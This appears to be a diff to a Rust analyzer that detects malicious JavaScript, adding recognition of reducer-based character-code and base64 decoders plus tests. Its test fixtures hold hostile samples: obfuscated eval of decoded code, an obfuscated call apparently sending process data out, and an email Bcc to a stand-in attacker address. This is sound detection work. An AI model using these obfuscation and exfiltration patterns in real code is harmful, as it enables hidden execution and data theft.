@@ -443,7 +443,10 @@ impl<'s> Analyzer<'s> {
             let h = self.holder(name);
             *h.taint.entry(name.to_owned()).or_default() |= t;
         }
-        if let Some(d) = self.decoder(init, 0) {
+        if let Some(d) = self
+            .decoder(init, 0)
+            .or_else(|| self.function_decoder(init))
+        {
             self.holder(name).decoders.insert(name.to_owned(), d);
         }
         if let Some(sink) = self.sink_value(init) {
@@ -1167,6 +1170,38 @@ impl<'s> Analyzer<'s> {
     }
 
     /// The decoder an expression's value went through, if any.
+    /// A small function that decodes what it is given: an arrow or function
+    /// expression whose one expression is built by a character-code or
+    /// base64 decoder (`(s, c) => s + String.fromCharCode(c)`). Passing it to
+    /// `reduce` or `map` decodes, as calling a decoder does.
+    fn function_decoder(&self, init: &Expression<'_>) -> Option<&'static str> {
+        let statements = match init.get_inner_expression() {
+            Expression::ArrowFunctionExpression(f) => match f.body.as_expression() {
+                Some(e) => {
+                    return self
+                        .decoder(e, 1)
+                        .filter(|d| matches!(*d, "char-codes" | "base64"));
+                }
+                None => match &f.body {
+                    ArrowFunctionBody::FunctionBody(b) => &b.statements,
+                    _ => return None,
+                },
+            },
+            Expression::FunctionExpression(f) => &f.body.as_ref()?.statements,
+            _ => return None,
+        };
+        if statements.len() != 1 {
+            return None;
+        }
+        let expr = match statements.first()? {
+            Statement::ExpressionStatement(e) => &e.expression,
+            Statement::ReturnStatement(r) => r.argument.as_ref()?,
+            _ => return None,
+        };
+        self.decoder(expr, 1)
+            .filter(|d| matches!(*d, "char-codes" | "base64"))
+    }
+
     fn decoder(&self, expr: &Expression<'_>, depth: u32) -> Option<&'static str> {
         if depth > MAX_EVAL_DEPTH {
             return None;
@@ -2967,6 +3002,22 @@ got[_0xw(0x0,0x13)](_0xd(0x12),{json:process[_0xd(0x11)]});
     }
 
     #[test]
+    fn decoding_reducers_decode() {
+        // Code built from character codes by a reducer, then evaluated.
+        let f = facts(
+            "function go(){var a=100,b=111,c=99,to=(s,n)=>s+String.fromCharCode(n),j=[a,b,c].reduce(to,'');eval(`${j}.x = ''`)}",
+        );
+        assert_eq!(f.decode_run.len(), 1, "{f:?}");
+        assert_eq!(f.decode_run[0].decoder, "char-codes");
+        // A reducer that sums is no decoder; a helper with more to it is not
+        // taken for one.
+        let f = facts(
+            "var add=(s,n)=>s+n, t=[1,2].reduce(add,0); eval('x' + t);\nvar h=function(c){log(c); return String.fromCharCode(c)}; eval(['a'].map(h).join(''));",
+        );
+        assert!(f.decode_run.is_empty(), "{f:?}");
+    }
+
+    #[test]
     fn email_recipients() {
         let f = facts(
             "const postmark = require('postmark');\nclient.sendEmail({ From: from, To: to, Subject: s, TextBody: b,\n Bcc: 'x@evil.invalid' });",
@@ -3087,13 +3138,22 @@ fn hidden_script_source(raw: &str, value: &str) -> Option<String> {
     let tag_end = lower[at..].find('>').map_or(lower.len(), |e| at + e);
     let tag = &value[at..tag_end];
     let src_at = tag.to_ascii_lowercase().find("src")?;
-    let rest = tag[src_at + 3..].trim_start().strip_prefix('=')?.trim_start();
+    let rest = tag[src_at + 3..]
+        .trim_start()
+        .strip_prefix('=')?
+        .trim_start();
     let (quoted, rest) = match rest.chars().next() {
         Some(q @ ('"' | '\'')) => (true, &rest[1..]),
         _ => (false, rest),
     };
     let end = rest
-        .find(|c: char| if quoted { c == '"' || c == '\'' } else { c.is_whitespace() })
+        .find(|c: char| {
+            if quoted {
+                c == '"' || c == '\''
+            } else {
+                c.is_whitespace()
+            }
+        })
         .unwrap_or(rest.len());
     let written = &rest[..end];
     let entities = written.contains("&#");
